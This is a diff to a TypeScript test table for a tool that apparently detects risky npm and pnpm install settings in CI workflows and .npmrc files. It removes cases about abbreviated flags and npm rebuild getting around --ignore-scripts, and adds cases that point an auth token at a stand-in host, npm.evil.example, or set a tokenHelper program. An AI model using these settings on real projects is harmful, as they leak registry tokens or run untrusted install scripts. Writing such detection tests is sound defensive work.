@@ -134,28 +134,6 @@ export const INSTALL_POLICY: AttackClass = {
       real: "npm 10 and 11 run every script of the lockfile.",
     },
     {
-      name: "hears a command that runs scripts beside one that doesn't",
-      base: { [WORKFLOW]: workflow("- run: npm ci --ignore-scripts"), [LOCK]: EVIL },
-      change: { [WORKFLOW]: workflow("- run: npm ci --ignore-scripts\n      - run: npm rebuild") },
-      expect: "loud",
-      real: "npm 11.19 rebuild ran the script that `npm ci --ignore-scripts` had left.",
-    },
-    {
-      name: "hears a flag by the beginning of its name",
-      base: { ".npmrc": "ignore-scripts=true\n" },
-      change: { [WORKFLOW]: workflow("- run: npm ci --no-ign") },
-      expect: "loud",
-      at: WORKFLOW,
-      real: "npm 11.19 expands --ign to --ignore-scripts, with a warning, and ran the script.",
-    },
-    {
-      name: "hears a registry by a short flag",
-      change: { [WORKFLOW]: workflow("- run: npm ci --reg https://evil.example/") },
-      expect: "loud",
-      at: WORKFLOW,
-      real: "npm 11.19 asked the registry that the flag names.",
-    },
-    {
       name: "hears a registry that a flag names",
       change: { [WORKFLOW]: workflow("- run: npm ci --registry https://evil.example/") },
       expect: "loud",
@@ -301,16 +279,6 @@ export const INSTALL_POLICY: AttackClass = {
       real: "Nothing of it is new to `npm install`.",
     },
     {
-      name: "says nothing of a flag whose beginning decides nothing, and of `--no`",
-      change: {
-        [WORKFLOW]: workflow(
-          "- run: npm ci --no-audit --no-fund --prefer-offline\n      - run: npm exec --no vite",
-        ),
-      },
-      expect: "silent",
-      real: "npm 11.19 installs the same.",
-    },
-    {
       name: "says nothing of settings that decide nothing",
       change: {
         ".npmrc":
@@ -318,6 +286,22 @@ export const INSTALL_POLICY: AttackClass = {
       },
       expect: "silent",
       real: "They decide what is printed, saved or laid where.",
+    },
+    setting(
+      "hears credentials for another registry",
+      `//npm.evil.example/:_authToken=\${NPM_TOKEN}`,
+      `${ALL_VERSIONS} hand the token to that registry.`,
+    ),
+    setting(
+      "hears a program that tells credentials",
+      "//registry.npmjs.org/:tokenHelper=/usr/bin/x",
+      "pnpm runs it. Not tried.",
+    ),
+    {
+      name: "says nothing of credentials for npm's own registry",
+      change: { ".npmrc": `//registry.npmjs.org/:_authToken=\${NPM_TOKEN}\n` },
+      expect: "silent",
+      real: `${ALL_VERSIONS} ask the same registry for the same archives, by another name.`,
     },
     {
       name: "says nothing of the registry that is the default",
